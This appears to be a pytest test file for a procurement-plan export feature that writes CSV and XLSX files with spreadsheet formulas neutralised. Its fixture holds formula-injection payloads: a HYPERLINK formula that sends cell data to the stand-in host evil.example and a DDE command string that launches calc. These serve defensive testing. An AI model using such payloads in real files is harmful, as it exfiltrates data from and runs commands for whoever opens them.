"""A plan version as CSV or XLSX: its lines in the upload's column names, formulas neutralised."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from factories import NOW
from plan_factories import plan_line

from scrapers.plan_file import PlanFileContext, read_plan_file
from scrapers.records import BuyerRecord

LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


def hostile_lines():
    return [
        plan_line("1", description=LINK_FORMULA),
        plan_line("2", description="+cmd|' /C calc'!A0", notes="@SUM(1+1)"),
        plan_line("3", description="Papel bond A4", quantity=Decimal("10"), planned_month=11),
    ]


def export_url(buyer, query: str) -> str:
    return f"/planes/{buyer.id}/{NOW.year}/exportar{query}"


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    return list(workbook.active.iter_rows(values_only=True))


def test_csv_export_has_the_lines_of_the_newest_version_with_formulas_neutralised(
    client, make_buyer, make_version
):
    buyer = make_buyer()
    make_version(buyer, 1, [plan_line("9")], days_ago=30)
    make_version(buyer, 2, hostile_lines())

    response = client.get(export_url(buyer, "?formato=csv"))

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert f"pac-{NOW.year}-entidad-{buyer.id}-v2.csv" in response.headers["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[:4] == ["N°", "Tipo de proceso", "Objeto", "Descripción"]
    assert [row[0] for row in rows] == ["1", "2", "3"]
    assert rows[0][3] == "'" + LINK_FORMULA
    assert rows[1][3] == "'+cmd|' /C calc'!A0" and rows[1][12] == "'@SUM(1+1)"
    assert rows[2][3] == "Papel bond A4" and rows[2][7] == f"11/{NOW.year}"
    assert rows[2][5] == "1000.00" and rows[2][2] == "Bienes" and rows[2][8] == "15"


def test_xlsx_export_of_a_chosen_version_neutralises_formulas_and_keeps_numbers(
    client, make_buyer, make_version
):
    buyer = make_buyer()
    make_version(buyer, 1, hostile_lines(), days_ago=30)
    make_version(buyer, 2, [plan_line("9")])

    response = client.get(export_url(buyer, "?formato=xlsx&version=1"))

    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    header, *rows = xlsx_rows(response)
    assert header[0] == "N°" and len(rows) == 3
    assert rows[0][3] == "'" + LINK_FORMULA
    assert rows[1][3].startswith("'+cmd") and rows[1][12] == "'@SUM(1+1)"
    assert rows[2][5] == 1000 and rows[2][9] == 10


def test_plan_page_links_both_formats_of_the_version_shown(client, make_buyer, make_version):
    buyer = make_buyer()
    make_version(buyer, 1, [plan_line("1")])

    page = client.get(f"/planes/{buyer.id}/{NOW.year}").get_data(as_text=True)

    assert f"/planes/{buyer.id}/{NOW.year}/exportar?version=1&amp;formato=csv" in page
    assert f"/planes/{buyer.id}/{NOW.year}/exportar?version=1&amp;formato=xlsx" in page


@pytest.mark.parametrize(
    ("query", "status"),
    [("?formato=pdf", 400), ("?formato=", 200), ("?version=x", 400), ("?version=5", 404)],
)
def test_bad_export_parameters_are_refused_cleanly(client, make_buyer, make_version, query, status):
    buyer = make_buyer()
    make_version(buyer, 1, [plan_line("1")])

    assert client.get(export_url(buyer, query)).status_code == status


def test_export_of_an_unknown_plan_is_404(client, make_buyer):
    assert client.get(export_url(make_buyer(), "?formato=csv")).status_code == 404


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_plan_reads_back_as_an_upload_of_the_same_lines(
    client, make_buyer, make_version, kind
):
    """An entity may download its plan, amend it in a spreadsheet and upload it again."""
    buyer = make_buyer()
    lines = [
        plan_line("1", procedure_type_code="AS", classification_code="1411150700000001"),
        plan_line("2", quantity=Decimal("12.5"), unit_of_measure="Millar", planned_month=11),
    ]
    make_version(buyer, 1, lines)
    exported = client.get(export_url(buyer, f"?formato={kind}")).data

    context = PlanFileContext(fiscal_year=NOW.year, buyer=BuyerRecord(name=buyer.name))
    reading = read_plan_file(io.BytesIO(exported), context)

    assert reading.problems == []
    (plan,) = reading.plans
    assert [
        (line.reference_number, line.planned_month, line.estimated_value, line.quantity)
        for line in plan.lines
    ] == [("1", 3, Decimal("1000.00"), None), ("2", 11, Decimal("1000.00"), Decimal("12.5"))]
